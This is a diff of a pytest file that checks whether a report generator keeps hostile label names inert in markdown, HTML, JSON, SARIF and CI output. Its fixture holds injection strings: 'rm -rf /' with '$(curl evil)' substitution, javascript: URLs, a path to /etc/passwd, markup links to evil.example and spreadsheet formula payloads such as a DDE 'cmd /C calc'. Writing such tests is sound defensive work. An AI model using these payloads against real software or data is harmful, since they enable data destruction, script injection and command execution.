@@ -60,6 +60,8 @@ NAMES = {
     "shell": "'; rm -rf / # $(curl evil) `curl evil` \n sort-drift",
     "url": "javascript:alert(1) ../../etc/passwd //evil/x data:text/html,x",
     "sarif": "[text](javascript:alert(1)) {0} {{0}}",
+    "markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link] [/] \\[b] {x!r} %(x)s",
+    "formula": "=1+1 =HYPERLINK(\"https://evil.example\") +cmd|' /C calc'!A0 @SUM(1+1) -2+3",
     "gitlab": "section_start:1:x[collapsed=true]\r\x1b[0Ksection_end:2:x",
     "long": "工x<&|`" * 2_000,
 }
@@ -160,6 +162,7 @@ def structure(text: str, form: str) -> Any:
     return None
 
 
+@pytest.mark.fault(64, 66)
 @pytest.mark.parametrize("form", reports.FORMATS)
 @pytest.mark.parametrize("name", NAMES)
 def test_a_hostile_name_changes_no_structure(name: str, form: str) -> None:
@@ -171,6 +174,7 @@ def test_a_hostile_name_changes_no_structure(name: str, form: str) -> None:
         assert structure(text, form) == structure(plain, form)
 
 
+@pytest.mark.fault(66)
 @pytest.mark.parametrize("name", NAMES)
 def test_markdown_has_no_link_but_to_traces(name: str) -> None:
     """GitHub's parser finds no tag that loads, runs or leads anywhere, and outside code nothing it links."""
@@ -192,6 +196,7 @@ def test_markdown_has_no_link_but_to_traces(name: str) -> None:
         assert not re.search(r"[@#!~$&^`*_\\]|://|www\.|<[a-z/!]|[A-Za-z]-\d", theirs), theirs
 
 
+@pytest.mark.fault(64)
 def test_html_runs_nothing_of_others() -> None:
     """No attribute of a page is a handler or leads to anything but the page itself and the traces."""
     if "html" not in reports.FORMATS:
@@ -204,6 +209,7 @@ def test_html_runs_nothing_of_others() -> None:
                     assert re.match(r"#|https://viewer\.example/", value), (tag, value)
 
 
+@pytest.mark.fault(66)
 @pytest.mark.parametrize("name", NAMES)
 def test_json_keeps_a_hostile_name(name: str) -> None:
     """Inert is not altered: the object holds the label, character by character."""
@@ -211,6 +217,7 @@ def test_json_keeps_a_hostile_name(name: str) -> None:
     assert found["labels"] == [NAMES[name]] * 2
 
 
+@pytest.mark.fault(66)
 @pytest.mark.parametrize("name", NAMES)
 def test_a_hostile_name_adds_no_output(name: str) -> None:
     """$GITHUB_OUTPUT gets one line an output, each with its own name."""
